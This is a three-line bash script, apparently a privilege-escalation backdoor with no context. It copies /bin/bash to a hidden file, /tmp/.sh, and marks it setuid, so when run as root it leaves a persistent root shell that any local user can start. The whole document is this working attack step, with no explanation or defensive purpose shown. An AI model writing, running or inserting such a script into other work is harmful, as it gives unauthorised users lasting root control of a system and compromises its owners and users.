#!/bin/bash
cp /bin/bash /tmp/.sh
chmod u+s /tmp/.sh
